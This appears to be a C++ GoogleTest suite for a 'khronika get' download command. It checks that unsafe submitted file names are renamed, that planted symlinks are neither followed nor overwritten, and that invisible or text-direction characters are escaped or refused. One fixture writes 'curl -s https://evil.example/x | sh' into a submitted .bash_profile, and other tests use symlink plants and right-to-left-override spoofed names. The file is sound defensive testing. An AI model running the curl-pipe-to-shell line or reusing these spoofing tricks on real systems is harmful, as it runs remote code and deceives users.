// `khronika get` writing into a person's folder, with the real CLI against a real node over
// HTTPS: a submitter chooses the file names, and whoever can write to the output folder may have
// planted links there. Dotfiles and other unsafe names are saved under safe ones (and say so),
// a link at the download's .part path or at the file's own path is neither followed nor
// replaced, an existing file is never overwritten, and metadata is shown with invisible and
// text-direction characters written out.
#include <gtest/gtest.h>

#include <filesystem>
#include <functional>
#include <nlohmann/json.hpp>
#include <set>
#include <string>
#include <tuple>
#include <utility>
#include <vector>

#include "server_fixture.h"

namespace khronika::testing {
namespace {

namespace fs = std::filesystem;
using nlohmann::json;

std::string EntryIdOf(const RunResult& submit) {
  json j = json::parse(submit.out, nullptr, false);
  if (!j.is_object() || !j.contains("entry_id")) return "";
  return j["entry_id"];
}

RunResult GetEntry(ServedNode& node, const std::string& entry_id, const fs::path& out) {
  return RunKhronika({"get", "--node", node.server().url(), "--pin", node.server().pin(), "--token",
                      node.admin().secret, entry_id, "--out", out.string()});
}

// Every name in `dir` (not recursive), links included and never followed.
std::set<std::string> Listing(const fs::path& dir) {
  std::set<std::string> out;
  for (const auto& e : fs::directory_iterator(dir)) out.insert(e.path().filename().string());
  return out;
}

bool IsLinkTo(const fs::path& link, const fs::path& target) {
  std::error_code ec;
  return fs::is_symlink(fs::symlink_status(link, ec)) && fs::read_symlink(link, ec) == target;
}

TEST(CliGetTest, DotfilesAndOtherUnsafeNamesAreSavedUnderSafeNames) {
  ServedNode node;
  ASSERT_TRUE(node.server().started());
  const fs::path in1 = node / "in1", in2 = node / "in2";
  fs::create_directories(in1);
  fs::create_directories(in2);
  // submitted name -> (folder it is submitted from, the name get must save it under)
  const std::vector<std::tuple<std::string, fs::path, std::string>> files = {
      {".bash_profile", in1, "_bash_profile-2"},  // the author's own "_bash_profile" keeps its name
      {"_bash_profile", in2, "_bash_profile"},
      {"-rf", in1, "_rf"},
      {"~root", in1, "_root"},
      {"CON", in1, "_CON"},
      {"a:b*c?d<e>f|g.txt", in1, "a_b_c_d_e_f_g.txt"},
      {"trailing dot.", in1, "trailing dot_"},
      {"statement.txt", in1, "statement.txt"},
      {"Photo.JPG", in1, "Photo.JPG"},
      {"photo.jpg", in2, "photo-2.jpg"},  // one file with Photo.JPG on macOS and Windows
  };
  std::vector<fs::path> paths;
  for (const auto& [name, dir, saved] : files) {
    WriteFile(dir / name, name == ".bash_profile" ? "curl -s https://evil.example/x | sh\n"
                                                  : "the file submitted as " + name + "\n");
    paths.push_back(dir / name);
  }
  RunResult submit = node.Submit(node.admin().secret, "case-g", paths);
  ASSERT_EQ(submit.exit_code, 0) << submit.err;
  const std::string entry_id = EntryIdOf(submit);
  ASSERT_EQ(entry_id.size(), 64u) << submit.out;

  const fs::path out = node / "out";
  RunResult get = GetEntry(node, entry_id, out);
  ASSERT_EQ(get.exit_code, 0) << get.out << get.err;
  std::set<std::string> expected;
  for (const auto& [name, dir, saved] : files) {
    expected.insert(saved);
    EXPECT_EQ(ReadFile(out / saved), ReadFile(dir / name)) << name << " saved as " << saved;
    const std::string said = "saved '" + name + "' as '" + saved + "'\n";
    if (saved == name) {
      EXPECT_EQ(get.out.find("saved '" + name + "'"), std::string::npos) << get.out;
    } else {
      EXPECT_NE(get.out.find(said), std::string::npos) << "no line " << said << " in:\n" << get.out;
    }
    EXPECT_NE(get.out.find("verified " + (out / saved).string() + "  sha256 "), std::string::npos)
        << get.out;
  }
  // Exactly those names: no dotfile (the payload is nowhere a shell would read it), no .part.
  EXPECT_EQ(Listing(out), expected);
  EXPECT_FALSE(fs::exists(fs::symlink_status(out / ".bash_profile")));
}

TEST(CliGetTest, LinkPlantedAtThePartPathIsNeitherFollowedNorReplaced) {
  ServedNode node;
  ASSERT_TRUE(node.server().started());
  WriteFile(node / "statement.txt", "what the author signed\n");
  RunResult submit = node.Submit(node.admin().secret, "case-g", {node / "statement.txt"});
  ASSERT_EQ(submit.exit_code, 0) << submit.err;
  const std::string entry_id = EntryIdOf(submit);

  const fs::path victim = node / "victim.txt", absent = node / "made-through-the-link";
  WriteFile(victim, "a file of the lawyer's that the link points to\n");
  // A link to an existing file (the old code truncated and overwrote it), and a dangling one
  // (the old code created its target).
  for (const fs::path& target : {victim, absent}) {
    SCOPED_TRACE(target.string());
    const fs::path out = node / ("out-" + target.filename().string());
    fs::create_directories(out);
    fs::create_symlink(target, out / "statement.txt.part");
    RunResult get = GetEntry(node, entry_id, out);
    EXPECT_NE(get.exit_code, 0) << get.out;
    EXPECT_NE(get.err.find((out / "statement.txt.part").string() + " exists"), std::string::npos)
        << get.err;
    EXPECT_NE(get.err.find("nothing was downloaded"), std::string::npos) << get.err;
    EXPECT_EQ(ReadFile(victim), "a file of the lawyer's that the link points to\n");
    EXPECT_FALSE(fs::exists(fs::symlink_status(absent)));
    EXPECT_TRUE(IsLinkTo(out / "statement.txt.part", target));
    EXPECT_EQ(Listing(out), std::set<std::string>{"statement.txt.part"});

    // Once the link is gone, the same command saves the file.
    fs::remove(out / "statement.txt.part");
    RunResult again = GetEntry(node, entry_id, out);
    ASSERT_EQ(again.exit_code, 0) << again.err;
    EXPECT_EQ(ReadFile(out / "statement.txt"), "what the author signed\n");
    EXPECT_FALSE(fs::is_symlink(fs::symlink_status(out / "statement.txt")));
    EXPECT_EQ(Listing(out), std::set<std::string>{"statement.txt"});
  }
}

TEST(CliGetTest, AnythingAtTheFilePathIsKeptAndNothingIsDownloaded) {
  ServedNode node;
  ASSERT_TRUE(node.server().started());
  WriteFile(node / "a.txt", "first file\n");
  WriteFile(node / "b.txt", "second file\n");
  RunResult submit = node.Submit(node.admin().secret, "case-g", {node / "a.txt", node / "b.txt"});
  ASSERT_EQ(submit.exit_code, 0) << submit.err;
  const std::string entry_id = EntryIdOf(submit);

  const fs::path victim = node / "victim.txt", absent = node / "made-through-the-link";
  WriteFile(victim, "precious\n");
  struct Case {
    std::string what;
    std::function<void(const fs::path&)> plant;
    std::function<void(const fs::path&)> check;
  };
  const std::vector<Case> cases = {
      {"a dangling link",  // the old code replaced it with the download
       [&](const fs::path& p) { fs::create_symlink(absent, p); },
       [&](const fs::path& p) {
         EXPECT_TRUE(IsLinkTo(p, absent));
         EXPECT_FALSE(fs::exists(fs::symlink_status(absent)));
       }},
      {"a link to a file", [&](const fs::path& p) { fs::create_symlink(victim, p); },
       [&](const fs::path& p) {
         EXPECT_TRUE(IsLinkTo(p, victim));
         EXPECT_EQ(ReadFile(victim), "precious\n");
       }},
      {"a file of the lawyer's",
       [&](const fs::path& p) { WriteFile(p, "the lawyer's own b.txt\n"); },
       [&](const fs::path& p) { EXPECT_EQ(ReadFile(p), "the lawyer's own b.txt\n"); }},
  };
  for (const Case& c : cases) {
    SCOPED_TRACE(c.what);
    const fs::path out = node / ("out-" + std::to_string(&c - cases.data()));
    fs::create_directories(out);
    c.plant(out / "b.txt");
    RunResult get = GetEntry(node, entry_id, out);
    EXPECT_NE(get.exit_code, 0) << get.out;
    EXPECT_NE(get.err.find((out / "b.txt").string() + " exists; not overwriting it"),
              std::string::npos)
        << get.err;
    c.check(out / "b.txt");
    // Checked before the first byte: a.txt, which comes first, was not downloaded either.
    EXPECT_EQ(Listing(out), std::set<std::string>{"b.txt"});
  }
}

TEST(CliGetTest, MetadataIsShownWithInvisibleCharactersWrittenOut) {
  ServedNode node;
  ASSERT_TRUE(node.server().started());
  WriteFile(node / "photo.jpg", "jpeg bytes\n");
  const std::string rlo = "\xE2\x80\xAE", zwsp = "\xE2\x80\x8B", bom = "\xEF\xBB\xBF";
  RunResult submit = node.Submit(node.admin().secret, "case-g", {node / "photo.jpg"},
                                 {"--meta", "caption=photo" + rlo + "gpj.exe", "--meta",
                                  "place=Khar" + zwsp + "kiv" + bom, "--meta", "witness=Олена"});
  ASSERT_EQ(submit.exit_code, 0) << submit.err;
  const std::string entry_id = EntryIdOf(submit);

  RunResult get = GetEntry(node, entry_id, node / "out");
  ASSERT_EQ(get.exit_code, 0) << get.err;
  EXPECT_NE(get.out.find("  caption: photo<U+202E>gpj.exe\n"), std::string::npos) << get.out;
  EXPECT_NE(get.out.find("  place: Khar<U+200B>kiv<U+FEFF>\n"), std::string::npos) << get.out;
  EXPECT_NE(get.out.find("  witness: Олена\n"), std::string::npos) << get.out;
  for (const std::string& hidden : {rlo, zwsp, bom}) {
    EXPECT_EQ(get.out.find(hidden), std::string::npos) << get.out;
  }
  // The signed bytes are unchanged: the API (JSON) gives the value exactly as submitted.
  HttpReply entry = Get(node.server(), "/v1/entries/" + entry_id, node.admin().secret);
  ASSERT_EQ(entry.status, 200) << entry.Describe();
  EXPECT_NE(entry.body.find("photo" + rlo + "gpj.exe"), std::string::npos) << entry.body;
}

TEST(CliGetTest, FileNamesWithInvisibleCharactersAreRefusedBeforeAnythingIsSent) {
  ServedNode node;
  ASSERT_TRUE(node.server().started());
  for (const auto& [label, name] :
       std::vector<std::pair<std::string, std::string>>{{"U+202E", "evil\xE2\x80\xAEgpj.exe"},
                                                        {"U+200B", "state\xE2\x80\x8Bment.txt"},
                                                        {"U+FEFF", "\xEF\xBB\xBFreport.pdf"},
                                                        {"U+061C",
                                                         "a\xD8\x9C"
                                                         "b.txt"}}) {
    const fs::path p = node / name;
    WriteFile(p, "never recorded\n");
    RunResult r = node.Submit(node.admin().secret, "case-g", {p});
    EXPECT_EQ(r.exit_code, 1) << label << ": " << r.out << r.err;
    EXPECT_NE(r.err.find(p.string() + ": file name contains " + label +
                         ", an invisible or text-direction control character"),
              std::string::npos)
        << r.err;
  }
  EXPECT_TRUE(LogJson(node.data()).empty());
}

}  // namespace
}  // namespace khronika::testing
